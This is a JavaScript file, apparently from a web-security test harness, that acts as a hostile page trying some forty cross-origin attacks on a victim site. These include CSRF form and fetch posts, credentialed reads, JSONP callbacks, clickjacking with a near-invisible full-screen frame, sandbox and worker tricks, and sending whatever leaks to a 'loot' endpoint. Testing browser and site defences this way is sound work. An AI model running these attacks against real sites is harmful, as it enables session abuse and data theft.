// What a hostile page tries. Each attack is told where the victim is and reads or
// changes what it can; report() is called for whatever a page may learn. An attack
// whose success is a change at the victim reports nothing.
const settle = (element, parent = document.body) => new Promise((done) => {
  element.onload = () => done(true);
  element.onerror = () => done(false);
  if (parent) parent.append(element);
});
const make = (tag, properties = {}) => Object.assign(document.createElement(tag), properties);
const wait = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const body = (fields) => new URLSearchParams(fields);
const each = (list, act) => Promise.all(list.map((item) => act(item).catch(() => {})));

// form has the browser send a form, into a frame or a window of its own.
const form = (T, { enctype, method = "post", target = "frame", extra = {} }) => each(T.posts, async ([url, fields]) => {
  const name = "f" + Math.random();
  const f = make("form", { method, action: url, target: name });
  if (enctype) f.enctype = enctype;
  for (const [key, value] of Object.entries({ ...fields, ...extra })) f.append(make("input", { name: key, value }));
  document.body.append(f);
  if (target === "window") { const w = open("about:blank", name); f.submit(); await wait(T.patience / 2); w?.close(); return; }
  const loaded = settle(make("iframe", { name }));
  await loaded; // of the blank page
  const answered = new Promise((done) => { document.getElementsByName(name)[0].onload = done; });
  f.submit();
  await answered;
});
const read = async (report, promise) => { const answer = await promise; if (answer.ok) report(await answer.text()); };
// element is an element of another origin: that it loads is an answer already.
const element = (T, report, tag, attribute, more = {}) => each(T.gets, async (url) => {
  if (await settle(make(tag, { ...more, [attribute]: url }))) report(`${tag} loads: ${url}`);
});
// frames tell how many windows are in them, whoever asks.
const framed = (T, report, tag, attribute, more = {}) => each(T.gets.slice(0, 3), async (url) => {
  const e = make(tag, more);
  e.setAttribute(attribute, url);
  document.body.append(e);
  for (let waited = 0; waited < T.patience / 2; waited += 30) {
    await wait(30);
    const inner = e.contentWindow;
    if (inner?.length > 0) return report(`${tag} shows a page with ${inner.length} windows in it`);
  }
});
// popped opens a window on the victim and does something with it.
const popped = async (T, act) => {
  const w = open(T.gets[0], "_blank");
  for (let waited = 0; w && waited < T.patience / 2; waited += 30) { await wait(30); if (act(w)) break; }
  w?.close();
};
const heard = (report) => addEventListener("message", (e) => { if (e.data?.leak) report(e.data.leak); });

const attacks = {
  "form": (T) => form(T, {}),
  "form multipart": (T) => form(T, { enctype: "multipart/form-data" }),
  "form text": (T) => form(T, { enctype: "text/plain" }),
  "form by get": (T) => form(T, { method: "get" }),
  "form with another method": (T) => form(T, { extra: { _method: "PUT", "X-HTTP-Method-Override": "DELETE" } }),
  "form in a window": (T) => form(T, { target: "window" }),
  "form by redirect": (T) => form({ ...T, posts: T.posts.map(([url, fields]) => ["/redirect?to=" + encodeURIComponent(url), fields]) }, {}),
  "fetch opaque": (T) => each(T.posts, ([url, fields]) => fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: body(fields) })),
  "fetch opaque, text": (T) => each(T.posts, ([url, fields]) => fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: String(body(fields)) })),
  "fetch": (T, report) => each(T.gets, (url) => read(report, fetch(url, { credentials: "include" }))),
  "fetch without cookies": (T, report) => each(T.gets, (url) => read(report, fetch(url, { credentials: "omit" }))),
  "fetch from cache": (T, report) => each(T.gets, (url) => read(report, fetch(url, { credentials: "include", cache: "force-cache" }))),
  "fetch with preflight": (T) => each(T.posts, ([url, fields]) => fetch(url, { method: "PUT", credentials: "include", headers: { "X-Stream": "1" }, body: body(fields) })),
  "fetch without referrer": (T) => each(T.posts, ([url, fields]) => fetch(url, { method: "POST", mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer", body: body(fields) })),
  "fetch by redirect": (T, report) => each(T.gets, (url) => read(report, fetch("/redirect?to=" + encodeURIComponent(url), { credentials: "include" }))),
  "request": (T, report) => each(T.gets, (url) => new Promise((done) => {
    const x = new XMLHttpRequest();
    x.open("GET", url);
    x.withCredentials = true;
    x.onprogress = x.onload = () => { if (x.status === 200) report(x.responseText); };
    x.onloadend = done;
    x.send();
  })),
  "request to change": (T) => each(T.posts, ([url, fields]) => new Promise((done) => {
    const x = new XMLHttpRequest();
    x.open("POST", url);
    x.withCredentials = true;
    x.onloadend = done;
    x.send(body(fields));
  })),
  "beacon": async (T) => { for (const [url, fields] of T.posts) navigator.sendBeacon(url, body(fields)); await wait(T.patience / 4); },
  "image": (T, report) => each([T.photo], async (src) => { if (await settle(make("img", { src }))) report("the photo loads"); }),
  "image into pixels": (T, report) => each([T.photo], async (src) => {
    const img = make("img", { crossOrigin: "use-credentials", src });
    if (!await settle(img)) return;
    const c = make("canvas", { width: 8, height: 8 });
    c.getContext("2d").drawImage(img, 0, 0);
    report(c.toDataURL());
  }),
  "image by redirect": (T, report) => each([T.photo], async (src) => { if (await settle(make("img", { src: "/redirect?to=" + encodeURIComponent(src) }))) report("the photo loads"); }),
  "background": (T, report) => each([T.photo], async (src) => {
    document.body.append(make("div", { style: `width:50px;height:50px;background-image:url("${src}")` }));
    for (let waited = 0; waited < T.patience / 2; waited += 30) {
      await wait(30);
      const entry = performance.getEntriesByName(src)[0];
      if (entry) { if (entry.responseStatus === 200 || entry.decodedBodySize > 0) report(`${entry.responseStatus}, ${entry.decodedBodySize} bytes`); return; }
    }
  }),
  "script": (T, report) => { window.leak = report; return element({ ...T, gets: T.gets.map((url) => url + "?callback=leak") }, report, "script", "src"); },
  "module": (T, report) => { window.leak = report; return each(T.gets, async (url) => { await import(url + "?callback=leak"); report("module loads"); }); },
  "style": (T, report) => element(T, report, "link", "href", { rel: "stylesheet" }),
  "import": (T, report) => element(T, report, "link", "href", { rel: "preload", as: "fetch", crossOrigin: "use-credentials" }),
  "prefetch": (T, report) => element(T, report, "link", "href", { rel: "prefetch" }),
  "module preload": (T, report) => element(T, report, "link", "href", { rel: "modulepreload", crossOrigin: "use-credentials" }),
  "navigation": (T) => each(T.changes.slice(0, 2), async (url) => { const w = open(url, "_blank"); await wait(T.patience / 2); w?.close(); }),
  "frame": (T, report) => { heard(report); return framed(T, report, "iframe", "src"); },
  "object": (T, report) => { heard(report); return framed(T, report, "object", "data", { type: "text/html" }); },
  "embed": (T, report) => { heard(report); return framed(T, report, "embed", "src", { type: "text/html" }); },
  "click through": async (T) => {
    document.body.style.margin = 0;
    const frame = make("iframe", { src: T.gets[0], style: "position:fixed;inset:0;width:100vw;height:100vh;border:0;opacity:0.01" });
    await settle(frame);
    document.title = "click";
    await wait(T.patience / 2);
  },
  "event stream": (T, report) => each(T.events, (url) => new Promise((done) => {
    const stream = new EventSource(url, { withCredentials: true });
    stream.onmessage = (e) => { report(e.data); stream.close(); done(); };
    stream.addEventListener("view", (e) => { report(e.data); stream.close(); done(); });
    stream.onopen = () => report("a stream opens");
    stream.onerror = () => { stream.close(); done(); };
  })),
  "web socket": (T, report) => each([...T.events, ...T.gets], (url) => new Promise((done) => {
    const socket = new WebSocket(url.replace("http:", "ws:"));
    socket.onmessage = (e) => { report(e.data); socket.close(); done(); };
    socket.onclose = done;
  })),
  "opener": (T, report) => { heard(report); return popped(T, (w) => { try { if (w.length > 0) { report(`a page with ${w.length} windows in it`); return true; } } catch { return w.closed; } return w.closed; }); },
  "message": (T) => popped(T, (w) => { w.postMessage({ act: "match" }, "*"); return w.closed; }),
  "sandbox": (T, report) => {
    heard(report);
    const inner = `fetch(${JSON.stringify(T.gets[0])},{credentials:"include"}).then(a=>a.ok&&a.text()).then(t=>t&&parent.postMessage({leak:t},"*"),()=>0).finally(()=>parent.postMessage("over","*"));` +
      T.posts.map(([url, fields]) => `fetch(${JSON.stringify(url)},{method:"POST",mode:"no-cors",credentials:"include",body:new URLSearchParams(${JSON.stringify(fields)})}).catch(()=>0);`).join("");
    document.body.append(make("iframe", { sandbox: "allow-scripts allow-forms", srcdoc: `<script>${inner.replaceAll("<", "\\u003c")}<\/script>` }));
    return new Promise((done) => addEventListener("message", (e) => { if (e.data === "over") done(); }));
  },
  "data address": (T, report) => {
    heard(report);
    const inner = `fetch(${JSON.stringify(T.gets[0])}).then(a=>a.ok&&a.text()).then(t=>t&&parent.postMessage({leak:t},"*"),()=>0).finally(()=>parent.postMessage("over","*"))`;
    document.body.append(make("iframe", { src: "data:text/html," + encodeURIComponent(`<script>${inner}<\/script>`) }));
    return new Promise((done) => addEventListener("message", (e) => { if (e.data === "over") done(); }));
  },
  "service worker": async (T, report) => {
    if (!navigator.serviceWorker) return read(report, fetch(T.gets[0])); // a name that is not this machine's has none
    await navigator.serviceWorker.register(T.gets[0] + "sw.js").then(() => report("registered"), () => {});
    const r = await navigator.serviceWorker.register("/worker.js?of=" + encodeURIComponent(T.gets[0]), { scope: "/worker.js" });
    const worker = r.installing ?? r.waiting ?? r.active;
    await new Promise((done) => {
      navigator.serviceWorker.onmessage = (e) => { if (e.data.leak) report(e.data.leak); done(); };
      worker.postMessage("go");
    });
    await r.unregister();
  },
  "worker": (T, report) => new Promise((done) => {
    const source = `fetch(${JSON.stringify(T.gets[0])},{credentials:"include"}).then(a=>a.ok?a.text():"").then(t=>postMessage(t),()=>postMessage(""))`;
    const w = new Worker(URL.createObjectURL(new Blob([source])));
    w.onmessage = (e) => { if (e.data) report(e.data); done(); };
  }),
};

async function run(name, T) {
  const reads = [];
  const tell = (path, what) => fetch(T.loot + path, { method: "POST", mode: "no-cors", body: what });
  const report = (what) => { reads.push(tell("/loot?run=" + T.run, String(what).slice(0, 20000))); };
  const late = wait(T.patience);
  try { await Promise.race([attacks[name](T, report), late]); } catch {}
  await Promise.all(reads);
  await tell("/over?run=" + T.run, "");
}
